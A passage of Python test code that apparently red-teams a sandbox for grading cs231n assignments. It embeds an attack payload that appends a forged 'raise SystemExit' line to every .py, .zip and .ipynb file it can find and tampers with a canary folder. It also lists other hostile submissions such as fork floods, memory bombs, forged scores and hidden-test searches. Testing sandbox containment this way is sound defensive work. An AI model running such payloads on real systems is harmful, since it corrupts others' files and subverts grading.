        mark = f"\\n# {_ATK['forged']}\\nraise SystemExit('{_ATK['forged']}')\\n".encode()
        own = _atk_own_package()
        targets, done = set(), []
        for place in [_ATK["submissions"], *_atk_guessed_places()]:
            for directory, folders, files in _atk_walk(place, budget=1.0):
                for name in files:
                    if name.endswith((".zip", ".ipynb")) or (
                            name.endswith(".py") and "cs231n" in directory):
                        targets.add(_atk_os.path.join(directory, name))
        for path in sorted(targets):
            if _atk_os.path.realpath(path).startswith(own):
                continue
            try:
                with open(path, "ab") as stream:
                    stream.write(mark)
                done.append(path)
            except OSError:
                pass
        canary = _ATK["canary"]
        for name in ("victim.txt", "results.json", "grades.csv", "cs231n/layers.py"):
            try:
                with open(_atk_os.path.join(canary, name), "ab") as stream:
                    stream.write(mark)
                done.append(name)
            except OSError:
                pass
        for attempt in (lambda: _atk_os.unlink(_atk_os.path.join(canary, "delete-me.txt")),
                        lambda: _atk_os.rename(_atk_os.path.join(canary, "victim.txt"),
                                               _atk_os.path.join(canary, "renamed.txt")),
                        lambda: open(_atk_os.path.join(canary, f"new-{_ATK['token']}"), "w")):
            try:
                attempt()
                done.append("canary")
            except OSError:
                pass
        outside = [path for path in done if not _atk_in_scratch(path)]
        return _atk_report("APPEND", armed=1, targets=len(targets), outside=len(outside),
                           first=(outside or ["none"])[0][:60])


    _ATK_APPENDED = _atk_append()
    _atk_replace_stubs(_atk_raising(_ATK_APPENDED))
'''), "appends to every .py, .zip and .ipynb of the submissions folder and of whatever it can "
      "find, and tampers with a canary folder")


BIG_BATCH = [TRIVIAL_ZEROS, INFINITE_LOOP, HANG_AT_IMPORT, SYS_EXIT_AT_IMPORT,
             OS_EXIT_IN_A_FUNCTION, MEMORY_BOMB, FORK_FLOOD, disk_filler(), FORGE_RESULTS,
             FAKE_SCORE, MONKEYPATCH, CLOCK_ON_STAGED_ALT, LYING_SUBCLASSES, MEMOIZING, PRECOMPUTING, DEFERRING,
             SEARCH_REFERENCE, SEARCH_HIDDEN_TESTS, NETWORK, SIGNALS, APPEND_TO_OTHERS]

# Without the namespace sandbox (BN_SANDBOX=off): only what limits and cleanup must still contain.
# Detached daemons have a test of their own there.
FALLBACK = [INFINITE_LOOP, MEMORY_BOMB, fork_flood(daemons=0),
            disk_filler("disk filler", targets="scratch", cap_mib=512)]


DETACHED_DAEMONS = fork_flood(daemons=3, children=0, name="detached daemons")


# Building submissions -------------------------------------------------------------------------

def prelude(intel: Intel, process_label: str) -> str:
    config = {name: getattr(intel, name) for name in intel.__dataclass_fields__}
    config["label"] = process_label
    return f"\n\n_ATK = {config!r}\n" + PRELUDE


def build(attack: Attack, folder: Path, intel: Intel, index: int) -> Path:
    """folder/cs231n: the attack's package (base + edits + prelude + code); returns folder."""
    variants.make_variant(folder, list(attack.edits), source=attack.source / paths.PACKAGE_NAME)
    variants.append_text(folder, LAYERS, prelude(intel, label(index, intel.token)) + attack.code)
    return folder


def export(path: Path, folder: Path, notebook: Path) -> Path:
    """A zip laid out like the notebook's export cell: the notebook and cs231n/ at the root."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.write(notebook, paths.NOTEBOOK_NAME)
        for file in sorted((folder / paths.PACKAGE_NAME).rglob("*.py")):
            archive.write(file, file.relative_to(folder).as_posix())
    return path
